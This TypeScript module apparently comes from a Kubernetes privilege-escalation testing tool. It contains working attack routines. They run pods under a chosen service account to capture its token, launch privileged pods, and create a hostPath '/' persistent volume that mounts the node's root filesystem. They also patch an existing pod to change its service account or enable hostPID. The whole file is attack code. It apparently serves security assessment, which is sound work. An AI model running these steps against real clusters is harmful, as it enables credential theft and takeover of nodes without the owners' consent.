import type { Attempt, Gain } from '../attacker';
import { isDone, newName } from '../creating';
import { bestAccount, until } from '../playing-field';
import { RUN_ROOT, RUN_VOLUME, running } from '../workloads';

export async function runsPods(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, serviceAccount } = attempt;
  const account = await bestAccount(field, place);
  const pod = await running(attempt, place, { serviceAccountName: account });
  if (pod === undefined) return [];
  const to = serviceAccount(place, account, { token: await field.tokenInPod(pod) });
  return [{ does: `runs a pod as a service account of ${place}`, to }];
}

export async function runsRoot(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const pod = await running(attempt, place, RUN_ROOT);
  if (pod === undefined) return [];
  return [{ does: `runs a privileged pod in ${place}, or one with the files of the node`, to: 'node' }];
}

export async function runsWithVolume(attempt: Attempt, place: string): Promise<readonly Gain[]> {
  const { field, send } = attempt;
  const claims = `/api/v1/namespaces/${place}/persistentvolumeclaims`;
  const name = newName();
  const spec = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
  const volume = {
    metadata: { name },
    spec: {
      ...spec,
      capacity: { storage: '1Gi' },
      claimRef: { namespace: place, name },
      hostPath: { path: '/' },
    },
  };
  if (!isDone(await send('POST', '/api/v1/persistentvolumes', volume))) return [];
  const claim = {
    metadata: { name },
    spec: { ...spec, volumeName: name, resources: { requests: { storage: '1Gi' } } },
  };
  if (!isDone(await send('POST', claims, claim))) return [];
  await until(`the claim ${name} of ${place} to be bound`, async () => {
    const { status } = await field.must('GET', `${claims}/${name}`);
    return status.phase === 'Bound';
  });
  const pod = await running(attempt, place, RUN_VOLUME(name));
  if (pod === undefined) return [];
  return [{ does: `runs a pod in ${place} with a persistent volume that is a folder of the node`, to: 'node' }];
}

/** Gives a pod that exists another service account, or the privileges of its node. */
export async function changesPods({ field, send, serviceAccount }: Attempt, place: string): Promise<readonly Gain[]> {
  const path = `/api/v1/namespaces/${place}/pods/existing`;
  const account = await bestAccount(field, place);
  const other = { spec: { serviceAccountName: account === 'default' ? 'holder' : account } };
  const privileged = { spec: { hostPID: true } };
  const gains: Gain[] = [];
  for (const [change, does] of [
    [other, 'changes the service account of a pod'],
    [privileged, 'makes a pod privileged'],
  ] as const) {
    if (!isDone(await send('PATCH', path, change))) continue;
    const pod = await field.must('GET', path);
    const to = does.includes('privileged')
      ? ('node' as const)
      : serviceAccount(place, account, { token: await field.tokenInPod(pod) });
    gains.push({ does, to });
  }
  return gains;
}
